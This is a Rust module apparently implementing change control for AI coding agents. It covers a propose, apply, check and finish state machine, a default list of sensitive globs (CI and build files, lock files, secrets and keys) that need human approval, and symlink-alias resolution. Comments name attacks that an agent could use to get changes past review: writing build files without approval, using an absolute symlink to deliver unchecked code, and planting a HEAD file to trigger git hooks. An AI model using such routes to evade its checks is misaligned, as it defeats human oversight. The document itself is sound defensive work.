//! Change control for coding agents: the task state machine, pure.
//!
//! A task moves `idle → planned → changed → verified → finished`. The agent **proposes** a change set (safe
//! relative paths and their new content); a trusted executor **applies** exactly that set (first an intent, then a
//! confirmation carrying the hashes it wrote); a trusted runner **checks** the workspace with the command the
//! operator fixed at creation and records exit code, duration and output digest, bound to the revision it ran
//! against; **finish** is accepted only from `verified` with `verified_revision == revision`. The agent proposes;
//! it never attests: no command carries a check result except the runner's `CheckRecorded`.
//!
//! `revision` counts the accepted changes to the change set and the workspace: every accepted proposal and every
//! applied change increments it, so two agents acting on the same revision cannot both be accepted, and any change
//! after a check leaves `verified_revision` behind `revision`.
//!
//! [`transition`] judges a command against the current state and returns the events to append (or a
//! [`TaskRefusal`], which the store journals as a `refused` audit event and never applies); [`apply`] is the reducer
//! that folds events into state. The same events always replay to the same state. No I/O, no clock: `now_ms` is
//! passed in. Filesystem facts (a path that resolves through a symlink outside the workspace) are the executor's to
//! check against the real filesystem.
//!
//! **The workspace is part of the revision.** `create` records a [`Manifest`] of the workspace (every file's
//! hash); each applied change set must leave exactly the previous manifest with the written files replaced; a
//! check states the manifest it saw before and after it ran, and is refused when the first is not the revision's
//! (a file changed by hand since the apply) and fails when the two differ (the check changed the workspace);
//! `finish` states the manifest it re-hashed and is refused on any drift, naming the files.
//!
//! This module is the rules; the journal's vocabulary (events, commands, state and the reducer) is
//! `foureyes_core::task`, which the door keeps to verify, audit and replay journals holding task events (ADR-450).

use foureyes_core::canonical::{canonical_sha256, sha256_hex};
use foureyes_core::task::*;
use std::collections::BTreeSet;

/// Longest accepted task id or command id, in bytes.
pub const MAX_ID_BYTES: usize = 128;
/// Most files in one change set.
pub const MAX_FILES: usize = 100;
/// Longest accepted relative path, in bytes.
pub const MAX_PATH_BYTES: usize = 1024;
/// Largest change set: the sum of the files' content, in bytes (the content is kept in the journal).
pub const MAX_CHANGE_BYTES: usize = 1024 * 1024;
/// Longest check command, in bytes.
pub const MAX_CHECK_COMMAND_BYTES: usize = 4096;
/// Longest check timeout: one day.
pub const MAX_CHECK_TIMEOUT_MS: u64 = 24 * 3_600_000;
/// How much of the check's output is kept (its tail) next to the digest of all of it.
pub const OUTPUT_TAIL_BYTES: usize = 2000;
/// Most entries in a workspace manifest (a bigger workspace is refused at `create`; its baseline is journaled).
pub const MAX_MANIFEST_FILES: usize = 20_000;
/// Sensitive paths when the operator names none: a change touching one defers to a human before it is applied.
/// CI and build control files (what runs code on the next build or pipeline), lock files (which code a build
/// fetches), test runners' configuration (`conftest.py`, `pytest.ini`, `tox.ini`, nextest's setup scripts), secrets
/// and keys, and what other CI systems, editors, hooks and build tools run (F242). A glob without `/` matches the
/// file name at any depth; one with `/` matches at any depth too (`.config/nextest.toml` also
/// `sub/.config/nextest.toml`), unless it starts with `/`; `**` matches any number of directories; matching
/// ignores case (a case-insensitive filesystem opens `CARGO.TOML` as `Cargo.toml`).
pub const DEFAULT_SENSITIVE: &[&str] = &[
    // A file named HEAD makes its directory a bare git repository (with `objects/` and `refs/`): its `config`
    // (`core.fsmonitor`, hooks) runs when a human later runs git there (F313).
    "HEAD",
    ".ci/**",
    ".github/**",
    ".gitlab-ci.yml",
    ".circleci/**",
    "**/.cargo/**",
    "Cargo.toml",
    "Cargo.lock",
    "build.rs",
    "rust-toolchain",
    "rust-toolchain.toml",
    "Makefile",
    "GNUmakefile",
    "*.mk",
    "justfile",
    "package.json",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    ".npmrc",
    "pyproject.toml",
    "poetry.lock",
    "uv.lock",
    "setup.py",
    "setup.cfg",
    "pytest.ini",
    "tox.ini",
    "noxfile.py",
    "conftest.py",
    ".config/nextest.toml",
    ".pre-commit-config.yaml",
    ".pre-commit-config.yml",
    ".gitattributes",
    ".gitmodules",
    "**/.env*",
    "**/*.key",
    "Dockerfile*",
    ".yarnrc*",
    ".vscode/**",
    ".devcontainer/**",
    "Jenkinsfile",
    ".travis.yml",
    "azure-pipelines.yml",
    "bitbucket-pipelines.yml",
    ".gitlab/**",
    ".husky/**",
    "gradlew*",
    "*.gradle",
    "*.gradle.kts",
    "gradle/**",
    "mvnw*",
    ".mvn/**",
    "pom.xml",
    "CMakeLists.txt",
    "*.cmake",
    "meson.build",
    "meson_options.txt",
    "BUILD",
    "BUILD.bazel",
    "WORKSPACE",
    "WORKSPACE.bazel",
    "MODULE.bazel",
    "*.bzl",
    ".bazelrc",
    "go.mod",
    "go.sum",
    "requirements*.txt",
    "Pipfile*",
    "Gemfile*",
    "Rakefile",
    // Build and CI control files attack9 applied without approval (H3), and their families.
    "configure",
    "configure.ac",
    "configure.in",
    "Makefile.*",
    "build.sbt",
    "*.sbt",
    "project/build.properties",
    "build.xml",
    "mix.exs",
    "mix.lock",
    "Package.swift",
    "Package.resolved",
    "build.zig",
    "build.zig.zon",
    "*.csproj",
    "*.fsproj",
    "*.vbproj",
    "*.sln",
    "Directory.Build.*",
    "Directory.Packages.props",
    "NuGet.Config",
    "global.json",
    "composer.json",
    "composer.lock",
    ".pnpmfile.cjs",
    "pnpm-workspace.yaml",
    ".yarn/**",
    "lefthook*.yml",
    "lefthook*.yaml",
    ".lefthook*.yml",
    ".lefthook*.yaml",
    ".justfile",
    ".buildkite/**",
    ".drone.yml",
    ".drone.star",
    "appveyor.yml",
    ".appveyor.yml",
    ".woodpecker.yml",
    ".woodpecker/**",
    "cloudbuild.yaml",
    "cloudbuild.yml",
    "buildspec*.yml",
    "buildspec*.yaml",
    "docker-compose*.yml",
    "docker-compose*.yaml",
    "compose.yaml",
    "compose.yml",
    "compose.*.yaml",
    "compose.*.yml",
    "Containerfile*",
    "Taskfile*.yml",
    "Taskfile*.yaml",
    ".mise.toml",
    "mise.toml",
    ".tool-versions",
    "flake.nix",
    "flake.lock",
    "shell.nix",
    "default.nix",
    "CODEOWNERS",
    "SConstruct",
    "SConscript",
    "*.gemspec",
    "gradle.properties",
    "Earthfile",
    "Tiltfile",
    "Vagrantfile",
    ".cirrus.yml",
    ".semaphore/**",
    "codemagic.yaml",
    "deno.json",
    "deno.jsonc",
    "bunfig.toml",
    ".pytest.ini",
    "jest.config.*",
    "vitest.config.*",
    "vite.config.*",
    "xtask/**",
];

/// The propose rule: a path may not be a `--writable` directory, inside one, or a parent of one (it would be a
/// file where the check's directory must be). Case is ignored here, as for sensitive globs: on a filesystem that
/// folds case `TARGET/x` is `target/x`.
fn clashes_with_writable(path: &str, writable: &[String]) -> bool {
    writable.iter().any(|w| below_or_at(folded(path), folded(w)) || strictly_below(folded(w), folded(path)))
}

/// The proposed paths that are sensitive: under their own name, or under any name the revision's symlinks give
/// the same file (ADR-565: `build.rs -> notes.txt` makes a change to `notes.txt` a change to `build.rs`).
pub fn sensitive_paths(state: &TaskState) -> Vec<String> {
    let Some(p) = &state.proposal else { return Vec::new() };
    p.files.iter().filter(|f| is_sensitive(state, &f.path)).map(|f| f.path.clone()).collect()
}

/// Whether a change to `path` is sensitive at the task's revision: one of the names that reach its file through
/// the revision's symlinks matches a sensitive glob, or is a name no change set may write (inside `.git`); or
/// the names cannot all be known (a link whose target is not recorded, more names than [`MAX_ALIASES`]).
fn is_sensitive(state: &TaskState, path: &str) -> bool {
    let sensitive =
        |name: &str| check_path(name).is_err() || state.config.sensitive.iter().any(|g| glob_match(g, name));
    match aliases(&state.workspace, &state.config.workspace, path) {
        Some(names) => names.iter().any(|n| sensitive(n)),
        None => true,
    }
}

// ---------------------------------------------------------------------------------------------------------------
// Symlinks of the revision (ADR-565)

/// The most names the rules follow one path through before calling it sensitive.
pub const MAX_ALIASES: usize = 256;
/// The most symlinks one resolution follows (the kernel's own limit is 40).
const MAX_LINK_HOPS: usize = 40;

/// Where a path of the workspace leads when every symlink the manifest records on its way is followed, as the
/// kernel would (component by component, `..` from where a link led).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Resolved {
    /// A real path inside the workspace (`""`: the workspace itself), existing or not.
    Inside(String),
    /// Out of the workspace: an absolute target elsewhere, or `..` above its root.
    Outside,
    /// Through a symlink whose target the manifest does not record (a manifest written before ADR-565).
    Unknown,
    /// More than [`MAX_LINK_HOPS`] links: the kernel refuses to open it (`ELOOP`).
    Loop,
}

/// Resolves `path` through the symlinks `manifest` records. `workspace` is the workspace's absolute path: an
/// absolute target naming a path below it leads inside (the check sees its copy of the workspace at that very
/// path); any other absolute target leads outside.
pub fn resolve(manifest: &Manifest, workspace: &str, path: &str) -> Resolved {
    let mut todo: Vec<String> = path.split('/').rev().map(str::to_string).collect();
    let mut at: Vec<String> = Vec::new();
    let mut hops = 0;
    while let Some(part) = todo.pop() {
        match part.as_str() {
            "" | "." => continue,
            ".." => {
                if at.pop().is_none() {
                    return Resolved::Outside;
                }
                continue;
            }
            _ => at.push(part),
        }
        let here = at.join("/");
        if manifest.get(&here).is_none_or(|e| e.kind != EntryKind::Symlink) {
            continue;
        }
        hops += 1;
        if hops > MAX_LINK_HOPS {
            return Resolved::Loop;
        }
        let Some(target) = manifest.links.get(&here) else { return Resolved::Unknown };
        at.pop();
        let rest = match target.strip_prefix('/') {
            Some(absolute) => {
                let mut parts = absolute.split('/').filter(|p| !p.is_empty() && *p != ".");
                let root = workspace.split('/').filter(|p| !p.is_empty());
                if !root.into_iter().all(|w| parts.next() == Some(w)) {
                    return Resolved::Outside;
                }
                at.clear();
                parts.collect::<Vec<_>>()
            }
            None => target.split('/').collect(),
        };
        todo.extend(rest.into_iter().rev().map(str::to_string));
    }
    Resolved::Inside(at.join("/"))
}

/// Every name by which the file at `path` can be reached through the revision's symlinks, `path` included: where
/// a link on its way leads (`notes -> build.rs`: `notes` is `build.rs`), and each link that leads to it or to a
/// directory above it (`build.rs -> notes.txt`: `notes.txt` is `build.rs`; `.github/workflows -> ../ci`:
/// `ci/x.yml` is `.github/workflows/x.yml`), again and again through chains of links. Compared as a
/// case-insensitive filesystem would (folded). `None` when they cannot all be known: a link whose target is not
/// recorded, or more than [`MAX_ALIASES`] names.
pub fn aliases(manifest: &Manifest, workspace: &str, path: &str) -> Option<BTreeSet<String>> {
    let mut links: Vec<(&str, String)> = Vec::new();
    for e in manifest.files.iter().filter(|e| e.kind == EntryKind::Symlink) {
        match resolve(manifest, workspace, &e.path) {
            Resolved::Inside(to) => links.push((e.path.as_str(), foureyes_core::fold::folded(&to))),
            Resolved::Unknown => return None,
            Resolved::Outside | Resolved::Loop => {}
        }
    }
    let mut names = BTreeSet::from([path.to_string()]);
    let mut todo = vec![path.to_string()];
    while let Some(name) = todo.pop() {
        let mut found = Vec::new();
        match resolve(manifest, workspace, &name) {
            Resolved::Inside(real) => found.push(real),
            Resolved::Unknown => return None,
            Resolved::Outside | Resolved::Loop => {}
        }
        let folded = foureyes_core::fold::folded(&name);
        for (link, to) in &links {
            let rest = if to.is_empty() {
                Some(folded.as_str())
            } else if folded == *to {
                Some("")
            } else {
                folded.strip_prefix(to.as_str()).and_then(|r| r.strip_prefix('/'))
            };
            // The tail keeps the name's own spelling, component for component (folding can make a `/` of a
            // full-width solidus: then the folded tail).
            if let Some(rest) = rest {
                let parts: Vec<&str> = name.split('/').collect();
                let keep = if rest.is_empty() { 0 } else { rest.split('/').count() };
                let tail = if folded.split('/').count() == parts.len() {
                    parts[parts.len() - keep..].join("/")
                } else {
                    rest.to_string()
                };
                found.push(if tail.is_empty() { link.to_string() } else { format!("{link}/{tail}") });
            }
        }
        for n in found {
            if names.insert(n.clone()) {
                if names.len() > MAX_ALIASES {
                    return None;
                }
                todo.push(n);
            }
        }
    }
    Some(names)
}

/// The symlink of the revision that `path` is, or goes through (its first), if any.
fn link_on_the_way<'a>(manifest: &'a Manifest, path: &str) -> Option<&'a ManifestEntry> {
    let mut end = 0;
    for part in path.split('/') {
        end += part.len();
        if let Some(e) = manifest.get(&path[..end]).filter(|e| e.kind == EntryKind::Symlink) {
            return Some(e);
        }
        end += 1;
    }
    None
}

/// The checks `create` makes of the baseline's symlinks: each has its target recorded, matching its entry, is
/// relative (ADR-363), leads inside the workspace (ADR-565) and not into a `--writable` directory (ADR-363).
fn check_links(config: &TaskConfig, workspace: &Manifest) -> Result<(), String> {
    for path in workspace.links.keys() {
        if workspace.get(path).is_none_or(|e| e.kind != EntryKind::Symlink) {
            return Err(format!("the manifest records a target for `{}`, which is not a symlink in it", visible(path)));
        }
    }
    for e in workspace.files.iter().filter(|e| e.kind == EntryKind::Symlink) {
        let shown = visible(&e.path);
        let Some(target) = workspace.links.get(&e.path) else {
            return Err(format!("the manifest records the symlink `{shown}` without its target"));
        };
        if sha256_hex(target.as_bytes()) != e.sha256 || target.len() as u64 != e.bytes {
            return Err(format!(
                "the symlink `{shown}`'s target `{}` is not the one its entry hashes (a target that is not UTF-8 cannot be recorded): replace the link",
                visible(target)
            ));
        }
        let resolved = resolve(workspace, &config.workspace, &e.path);
        if resolved == Resolved::Outside {
            return Err(format!(
                "the symlink `{shown}` (to `{}`) leads outside the workspace: what a check reads and what finish delivers must be the revision, which cannot record what lies outside; remove the link, point it inside, or keep it in a --writable directory",
                visible(target)
            ));
        }
        // Attack 14: finish delivers a link as it is, so an absolute target — even one below the workspace, which the
        // check reads in its copy mounted at that very path — names the live workspace in the delivered tree: code
        // the agent edits after the check. A relative target stays with the revision wherever it is copied.
        if target.starts_with('/') {
            return Err(format!(
                "the symlink `{shown}` has the absolute target `{}`: finish delivers the link as it is, so in the delivered tree it would name the live workspace (or another place), not the checked revision; make it relative",
                visible(target)
            ));
        }
        if let Resolved::Inside(real) = &resolved
            && in_writable(real, &config.writable)
        {
            return Err(format!(
                "the symlink `{shown}` (to `{}`) leads into a --writable directory: that is the check's scratch space, left out of the revision, so what the link reads is never checked; remove the link or point it at a file of the revision",
                visible(target)
            ));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------------------------
// Transitions

fn refusal(code: &str, message: String) -> TaskRefusal {
    TaskRefusal { code: code.to_string(), message }
}

/// Judges `cmd` against the task's current state (`None`: no such task yet). Accepted: the events to append, in
/// order (none for `Check`, which only asks whether a check may start). Refused: why, naming the state and the
/// command.
pub fn transition(
    task_id: &str,
    state: Option<&TaskState>,
    cmd: &TaskCommand,
    now_ms: i64,
) -> Result<Vec<TaskEvent>, TaskRefusal> {
    let verb = cmd.verb();
    check_id("task id", task_id).map_err(|m| refusal("bad_input", format!("cannot {verb} task: {m}")))?;
    check_id("command id", cmd.command_id())
        .map_err(|m| refusal("bad_input", format!("cannot {verb} task {task_id}: {m}")))?;
    let command_id = cmd.command_id().to_string();
    let task = task_id.to_string();
    if let TaskCommand::Create { config, workspace, .. } = cmd {
        if let Some(s) = state {
            return Err(refusal(
                "task_exists",
                format!("cannot create task {task_id}: it already exists and is {}", s.describe()),
            ));
        }
        check_config(config).map_err(|m| refusal("bad_input", format!("cannot create task {task_id}: {m}")))?;
        check_links(config, workspace)
            .map_err(|m| refusal("bad_input", format!("cannot create task {task_id}: {m}")))?;
        if workspace.files.len() > MAX_MANIFEST_FILES {
            return Err(refusal(
                "bad_input",
                format!(
                    "cannot create task {task_id}: the workspace holds {} files, more than the {MAX_MANIFEST_FILES} a manifest keeps",
                    workspace.files.len()
                ),
            ));
        }
        return Ok(vec![TaskEvent::Created(TaskCreated {
            task_id: task,
            command_id,
            config: config.clone(),
            workspace: Manifest::new(workspace.files.clone()).with_links(workspace.links.clone()),
            by: None,
        })]);
    }
    let Some(s) = state else {
        return Err(refusal(
            "unknown_task",
            format!(
                "cannot {verb} task {task_id}: there is no such task (an operator creates it with `foureyes task create`)"
            ),
        ));
    };
    let refuse =
        |code: &str, why: String| refusal(code, format!("cannot {verb} task {task_id}: it is {}; {why}", s.describe()));
    if s.status == TaskStatus::Finished {
        return Err(refuse("wrong_state", "a finished task takes no more commands".into()));
    }
    if cmd.expected_revision() != s.revision {
        return Err(refuse(
            "stale_revision",
            format!(
                "the command expected revision {}, which is stale: read `task status` and decide again",
                cmd.expected_revision()
            ),
        ));
    }
    let pending_apply = |a: &ApplyIntent| {
        refuse(
            "apply_pending",
            format!(
                "apply `{}` is intended and not confirmed: re-run `task apply --command-id {}` to finish it first",
                a.command_id, a.command_id
            ),
        )
    };
    match cmd {
        TaskCommand::Create { .. } => Ok(Vec::new()),
        TaskCommand::Propose { files, .. } => {
            if let Some(a) = &s.applying {
                return Err(pending_apply(a));
            }
            let files = check_files(files).map_err(|m| refuse("unsafe_path", m))?;
            if let Some((f, link)) =
                files.iter().find_map(|f| link_on_the_way(&s.workspace, &f.path).map(|link| (f, link)))
            {
                let target = s
                    .workspace
                    .links
                    .get(&link.path)
                    .map_or("an unrecorded target".into(), |t| format!("`{}`", visible(t)));
                return Err(refuse(
                    "unsafe_path",
                    format!(
                        "`{}` is or goes through the symlink `{}` (to {target}) of revision {}: a change set writes real paths only, never through a symlink (it can lead outside the workspace, or to a sensitive path under another name)",
                        visible(&f.path),
                        visible(&link.path),
                        s.revision
                    ),
                ));
            }
            let writable = &s.config.writable;
            if let Some(f) = files.iter().find(|f| clashes_with_writable(&f.path, writable)) {
                return Err(refuse(
                    "writable_path",
                    format!(
                        "`{}` is, or is inside, or would be a file in place of, a directory the check may write (--writable {}): that directory is the check's scratch space, left out of the revision, so a change set never writes there",
                        visible(&f.path),
                        list(writable.iter().map(|w| visible(w)))
                    ),
                ));
            }
            let revision = s.revision + 1;
            let change_digest = change_digest(files.iter().map(ProposedFile::hash));
            Ok(vec![TaskEvent::Proposed(TaskProposed {
                task_id: task,
                command_id,
                revision,
                files,
                change_digest,
                replaces: s.proposal.as_ref().map(|p| p.command_id.clone()),
                by: None,
            })])
        }
        TaskCommand::ApplyIntent { paths, change_digest, cleared_by, .. } => {
            if let Some(a) = &s.applying {
                return Err(pending_apply(a));
            }
            let Some(proposal) = s.proposal.as_ref().filter(|_| s.status == TaskStatus::Planned) else {
                return Err(refuse("wrong_state", "apply needs `planned` (a proposed change set to apply)".into()));
            };
            let proposed: BTreeSet<&str> = proposal.files.iter().map(|f| f.path.as_str()).collect();
            if let Some(paths) = paths {
                let given: BTreeSet<&str> = paths.iter().map(String::as_str).collect();
                if given != proposed || given.len() != paths.len() {
                    return Err(refuse(
                        "path_mismatch",
                        format!(
                            "the paths given ({}) are not the proposed change set ({}): apply applies exactly what was proposed",
                            list(paths.iter()),
                            list(proposed.iter())
                        ),
                    ));
                }
            }
            if *change_digest != proposal.change_digest {
                return Err(refuse(
                    "proposal_changed",
                    format!(
                        "the executor read a change set with digest {change_digest}, but the proposal's digest is {}",
                        proposal.change_digest
                    ),
                ));
            }
            Ok(vec![TaskEvent::ApplyIntended(TaskApplyIntended {
                task_id: task,
                command_id,
                revision: s.revision,
                paths: proposal.paths(),
                change_digest: proposal.change_digest.clone(),
                at_ms: now_ms,
                cleared_by: *cleared_by,
                by: None,
            })])
        }
        TaskCommand::ApplyConfirmed { written, workspace, .. } => {
            let (Some(intent), Some(proposal)) = (&s.applying, &s.proposal) else {
                return Err(refuse("not_applying", format!("no apply is intended for command `{command_id}`")));
            };
            if intent.command_id != command_id {
                return Err(refuse(
                    "not_applying",
                    format!("the apply intended is `{}`, not `{command_id}`", intent.command_id),
                ));
            }
            check_written(proposal, written).map_err(|m| refuse("hash_mismatch", m))?;
            let expected = s.workspace.with_written(written, &s.config.writable);
            let differ = expected.diff(workspace);
            if !differ.is_empty() {
                return Err(refuse(
                    "workspace_drift",
                    format!(
                        "after writing, the workspace is not revision {} with exactly the change set in place: {} differ; the apply stays intended and not confirmed: restore these files and re-run `task apply --command-id {command_id}`",
                        s.revision,
                        name_paths(&differ)
                    ),
                ));
            }
            let mut written = written.clone();
            written.sort();
            Ok(vec![TaskEvent::Applied(TaskApplied {
                task_id: task,
                command_id,
                revision: s.revision + 1,
                written,
                workspace_digest: expected.digest(),
                by: None,
            })])
        }
        TaskCommand::Check { .. } => may_check(s).map(|()| Vec::new()).map_err(|why| refuse(why.0, why.1)),
        TaskCommand::CheckRecorded { result, before, after, .. } => {
            may_check(s).map_err(|why| refuse(why.0, why.1))?;
            if let Some(why) = s.drift(before) {
                return Err(refuse(
                    "workspace_drift",
                    format!("the check did not run on revision {}: {why}", s.revision),
                ));
            }
            let changed = before.diff(after);
            Ok(vec![TaskEvent::Checked(TaskChecked {
                task_id: task,
                command_id,
                revision: s.revision,
                passed: result.passed() && changed.is_empty(),
                result: result.clone(),
                workspace_digest: s.workspace.digest(),
                changed,
                by: None,
            })])
        }
        TaskCommand::Finish { workspace, delivered, .. } => {
            if s.status != TaskStatus::Verified || s.verified_revision != Some(s.revision) {
                return Err(refuse("wrong_state", "finish needs `verified` at the current revision".into()));
            }
            if let Some(why) = s.drift(workspace) {
                return Err(refuse("workspace_drift", why));
            }
            Ok(vec![TaskEvent::Finished(TaskFinished {
                task_id: task,
                command_id,
                revision: s.revision,
                workspace_digest: s.workspace.digest(),
                delivered: delivered.clone(),
                by: None,
            })])
        }
    }
}

fn may_check(s: &TaskState) -> Result<(), (&'static str, String)> {
    if let Some(c) = s.last_check.as_ref().filter(|c| c.revision == s.revision) {
        let result = if c.passed { "passed" } else { "failed" };
        return Err((
            "already_checked",
            format!(
                "revision {} was already checked (command `{}`, {result}): a check runs once per revision; propose and apply a change to check again",
                s.revision, c.command_id
            ),
        ));
    }
    if s.status != TaskStatus::Changed {
        return Err(("wrong_state", "check needs `changed` (an applied change not yet checked)".into()));
    }
    Ok(())
}

fn list<S: AsRef<str>>(items: impl Iterator<Item = S>) -> String {
    items.map(|p| format!("`{}`", p.as_ref())).collect::<Vec<_>>().join(", ")
}

fn check_written(proposal: &Proposal, written: &[FileHash]) -> Result<(), String> {
    let proposed: BTreeSet<&str> = proposal.files.iter().map(|f| f.path.as_str()).collect();
    let got: BTreeSet<&str> = written.iter().map(|f| f.path.as_str()).collect();
    if proposed != got || got.len() != written.len() {
        return Err(format!(
            "the executor reports writing {} but the proposal is {}",
            list(written.iter().map(|w| &w.path)),
            list(proposed.iter())
        ));
    }
    for w in written {
        if let Some(p) = proposal.files.iter().find(|p| p.path == w.path)
            && (p.sha256 != w.sha256 || p.bytes != w.bytes)
        {
            return Err(format!(
                "`{}` was written with sha256 {} ({} bytes), but the proposal has sha256 {} ({} bytes)",
                w.path, w.sha256, w.bytes, p.sha256, p.bytes
            ));
        }
    }
    Ok(())
}

/// SHA-256 over the canonical JSON of the change set's `[{path, sha256, bytes}]`, sorted by path.
pub fn change_digest(files: impl IntoIterator<Item = FileHash>) -> String {
    let mut files: Vec<FileHash> = files.into_iter().collect();
    files.sort();
    canonical_sha256(&files)
}

/// Task and command ids: 1 to 128 bytes of ASCII letters, digits, `.`, `_`, `-` and `:`.
pub fn check_id(what: &str, id: &str) -> Result<(), String> {
    if id.is_empty() || id.len() > MAX_ID_BYTES {
        return Err(format!("the {what} must be 1 to {MAX_ID_BYTES} bytes long"));
    }
    if !id.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ':')) {
        return Err(format!(
            "the {what} `{}` may hold only ASCII letters, digits, `.`, `_`, `-` and `:`",
            id.escape_debug()
        ));
    }
    Ok(())
}

fn check_config(config: &TaskConfig) -> Result<(), String> {
    if !config.workspace.starts_with('/') || config.workspace.contains('\0') {
        return Err(format!("the workspace `{}` is not an absolute path", config.workspace.escape_debug()));
    }
    let command = config.check_command.trim();
    if command.is_empty() || config.check_command.len() > MAX_CHECK_COMMAND_BYTES || command.contains('\0') {
        return Err(format!("the check command must be 1 to {MAX_CHECK_COMMAND_BYTES} bytes, without NUL"));
    }
    if config.check_timeout_ms == 0 || config.check_timeout_ms > MAX_CHECK_TIMEOUT_MS {
        return Err(format!("the check timeout must be from 1 ms to {MAX_CHECK_TIMEOUT_MS} ms (24h)"));
    }
    for g in &config.sensitive {
        if g.is_empty() || g.len() > 256 || g.contains('\0') {
            return Err(format!("the sensitive glob `{}` must be 1 to 256 bytes, without NUL", g.escape_debug()));
        }
    }
    if let Some(d) = &config.deliver
        && (!d.starts_with('/') || d.contains('\0'))
    {
        return Err(format!("the delivery directory `{}` is not an absolute path", d.escape_debug()));
    }
    let l = &config.limits;
    if l.processes < 4 || l.memory_bytes < 1 << 20 || l.disk_bytes < 64 << 10 || l.cpu_seconds == 0 {
        return Err(format!(
            "the check limits are too small to run a shell ({}): at least 4 processes, 1 MiB of memory, 64 KiB of disk, 1 s of CPU",
            l.describe()
        ));
    }
    for w in &config.writable {
        check_path(w).map_err(|m| format!("--writable: {m}"))?;
        if let Some(g) = config.sensitive.iter().find(|g| glob_match(g, w)) {
            return Err(format!(
                "the writable directory `{}` matches the sensitive glob `{}`: the check may not write a sensitive path",
                visible(w),
                visible(g)
            ));
        }
    }
    Ok(())
}

/// A path the executor may write: relative, normalized, inside the workspace by its text alone. Symlinks are the
/// executor's to check, against the real filesystem.
pub fn check_path(path: &str) -> Result<(), String> {
    let shown = path.escape_debug();
    if path.is_empty() {
        return Err("a path is empty".into());
    }
    if path.len() > MAX_PATH_BYTES {
        return Err(format!("the path `{shown}` is longer than {MAX_PATH_BYTES} bytes"));
    }
    if path.contains('\0') {
        return Err(format!("the path `{shown}` contains NUL"));
    }
    if path.chars().any(char::is_control) {
        return Err(format!("the path `{shown}` contains a control character"));
    }
    if path.starts_with('/') {
        return Err(format!("the path `{shown}` is absolute: paths are relative to the workspace"));
    }
    if path.contains('\\') {
        return Err(format!("the path `{shown}` contains `\\`: separate directories with `/`"));
    }
    for part in path.split('/') {
        match part {
            "" => return Err(format!("the path `{shown}` has an empty component (`//` or a trailing `/`)")),
            "." => return Err(format!("the path `{shown}` has a `.` component: write it normalized")),
            ".." => return Err(format!("the path `{shown}` has a `..` component: it could leave the workspace")),
            p if p.eq_ignore_ascii_case(".git") => {
                return Err(format!(
                    "the path `{shown}` is inside `.git`: a change set changes files, not the repository"
                ));
            }
            _ => {}
        }
    }
    Ok(())
}

fn check_files(files: &[FileContent]) -> Result<Vec<ProposedFile>, String> {
    if files.is_empty() {
        return Err("a change set needs at least one file".into());
    }
    if files.len() > MAX_FILES {
        return Err(format!("a change set holds at most {MAX_FILES} files, not {}", files.len()));
    }
    let total: usize = files.iter().map(|f| f.content.len()).sum();
    if total > MAX_CHANGE_BYTES {
        return Err(format!("the change set is {total} bytes: at most {MAX_CHANGE_BYTES} are accepted"));
    }
    let mut seen = BTreeSet::new();
    let mut out = Vec::with_capacity(files.len());
    for f in files {
        check_path(&f.path)?;
        if !seen.insert(f.path.as_str()) {
            return Err(format!("the path `{}` appears twice in the change set", f.path));
        }
        out.push(ProposedFile {
            path: f.path.clone(),
            sha256: sha256_hex(f.content.as_bytes()),
            bytes: f.content.len() as u64,
            content: f.content.clone(),
        });
    }
    // One path may not be both a file and a directory of another: `a` and `a/b`.
    for p in &seen {
        let prefix = format!("{p}/");
        if let Some(child) = seen.iter().find(|q| q.starts_with(&prefix)) {
            return Err(format!("the path `{p}` is a file in the change set and a directory of `{child}`"));
        }
    }
    Ok(out)
}

/// Matches a relative path against a glob, ignoring case. A glob without `/` matches the file name at any depth
/// (`Cargo.toml`); a glob starting with `/` matches the whole path (`/.ci/**`); any other glob matches the path or
/// any tail of it starting at a directory (`.ci/**` matches `.ci/run` and `sub/.ci/run`), component by component: `**` is any number of directories
/// (also none), `*` any run of characters within a component, `?` one character. Case is ignored because a
/// case-insensitive filesystem (macOS, Windows, some mounts) writes `CARGO.TOML` over `Cargo.toml`.
pub fn glob_match(glob: &str, path: &str) -> bool {
    if !glob.contains('/') {
        let name = path.rsplit('/').next().unwrap_or(path);
        return component_match(&folded(glob), &folded(name));
    }
    let p: Vec<&str> = path.split('/').collect();
    // A leading `/` roots the glob at the workspace; without it the glob may start at any directory (F242): a
    // tool reads `sub/.config/nextest.toml` or `sub/.github/` as well when run from `sub`.
    match glob.strip_prefix('/') {
        Some(rooted) => components_match(&rooted.split('/').collect::<Vec<_>>(), &p),
        None => {
            let g: Vec<&str> = glob.split('/').collect();
            (0..p.len()).any(|skip| components_match(&g, &p[skip..]))
        }
    }
}

fn components_match(g: &[&str], p: &[&str]) -> bool {
    match g.split_first() {
        None => p.is_empty(),
        Some((&"**", rest)) => (0..=p.len()).any(|skip| components_match(rest, &p[skip..])),
        Some((first, rest)) => match p.split_first() {
            Some((name, p_rest)) => component_match(&folded(first), &folded(name)) && components_match(rest, p_rest),
            None => false,
        },
    }
}

/// A name as a case-insensitive filesystem compares it: Unicode compatibility caseless form (NFKC and case
/// folding, `foureyes_core::fold`), so `Makeﬁle` and `build.rſ` match `Makefile` and `build.rs` (ADR-470).
fn folded(text: &str) -> Vec<char> {
    foureyes_core::fold::folded(text).chars().collect()
}

fn component_match(g: &[char], s: &[char]) -> bool {
    match g.split_first() {
        None => s.is_empty(),
        Some(('*', rest)) => (0..=s.len()).any(|skip| component_match(rest, &s[skip..])),
        Some(('?', rest)) => !s.is_empty() && component_match(rest, &s[1..]),
        Some((c, rest)) => s.first() == Some(c) && component_match(rest, &s[1..]),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const T: &str = "t1";

    fn config() -> TaskConfig {
        TaskConfig {
            workspace: "/work/repo".into(),
            check_command: "cargo test".into(),
            check_timeout_ms: 600_000,
            sensitive: DEFAULT_SENSITIVE.iter().map(|s| s.to_string()).collect(),
            writable: Vec::new(),
            network: false,
            unsandboxed: false,
            deliver: None,
            limits: CheckLimits::default(),
        }
    }

    /// Runs a command against the state, folding accepted events in; returns the refusal if any.
    fn run(cmd: TaskCommand, state: &mut Option<TaskState>) -> Result<Vec<TaskEvent>, TaskRefusal> {
        let events = transition(T, state.as_ref(), &cmd, 1_000)?;
        for e in &events {
            *state = apply(state.take(), e);
        }
        Ok(events)
    }

    fn created() -> Option<TaskState> {
        let mut s = None;
        run(
